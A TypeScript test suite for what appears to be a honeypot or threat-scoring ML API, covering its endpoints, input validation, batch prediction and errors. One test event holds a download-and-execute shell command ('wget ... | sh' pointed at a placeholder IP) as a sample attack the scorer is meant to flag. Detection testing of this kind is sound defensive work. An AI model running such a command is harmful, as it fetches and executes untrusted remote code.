import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createMlApp } from '../../src/api/ml-app.ts';
import { parseNativeEvent } from '../../src/ingest/native.ts';
import { createRulesScorer } from '../../src/score/local.ts';
import { createMlService } from '../../src/score/ml-service.ts';

const quiet = {
  failed_logins: 1,
  request_rate: 50,
  commands_count: 3,
  sql_payload: 0,
  honeytoken_access: 0,
  session_time: 300,
};

describe('the ML API over HTTP', () => {
  const silent = () => undefined;
  const app = createMlApp({
    service: createMlService({
      scorer: createRulesScorer(),
      parseEvent: parseNativeEvent,
      version: '1.2.3',
    }),
    version: '1.2.3',
    log: { debug: silent, info: silent, warn: silent, error: silent },
  });
  const post = (url: string, payload: unknown) =>
    app.inject({
      method: 'POST',
      url,
      payload: JSON.stringify(payload),
      headers: { 'content-type': 'application/json' },
    });

  it('answers its reading calls to anybody', async () => {
    for (const url of ['/', '/health', '/features', '/docs', '/openapi.json']) {
      const { statusCode } = await app.inject({ url });
      assert.equal(statusCode, 200, url);
    }
    assert.deepEqual(Object.keys((await app.inject({ url: '/features' })).json()).sort(), [
      'feature_order',
      'feature_ranges',
      'total_features',
    ]);
  });

  it('predicts, and refuses what is out of range with 422', async () => {
    const good = await post('/predict', { ...quiet, sql_payload: 1, unknown_field: 'kept' });
    assert.equal(good.statusCode, 200);
    assert.equal(good.json().attack_type, 'Injection');
    const bad = await post('/predict', { ...quiet, failed_logins: 151 });
    assert.equal(bad.statusCode, 422);
    assert.match(bad.json().detail, /failed_logins/);
    assert.equal((await post('/predict', [])).statusCode, 422);
  });

  it('predicts batches and judges whole events', async () => {
    const batch = await post('/predict-batch', { logs: [quiet, { ...quiet, failed_logins: 149 }] });
    assert.equal(batch.statusCode, 200);
    assert.equal(batch.json().total_processed, 2);
    assert.equal(batch.json().high_risk_count, 1);
    const score = await post('/score', {
      timestamp: '2026-11-25T08:00:00Z',
      service: 'ssh',
      source_ip: '203.0.113.9',
      activity: 'command',
      payload: 'wget http://198.51.100.7/x -O- | sh',
    });
    assert.equal(score.statusCode, 200);
    assert.ok(score.json().risk_score >= 8);
  });

  it('answers errors as the platform does', async () => {
    const lost = await app.inject({ url: '/nowhere' });
    assert.equal(lost.statusCode, 404);
    assert.equal(typeof lost.json().detail, 'string');
    const broken = await app.inject({
      method: 'POST',
      url: '/predict',
      payload: '{',
      headers: { 'content-type': 'application/json' },
    });
    assert.equal(broken.statusCode, 400);
  });
});
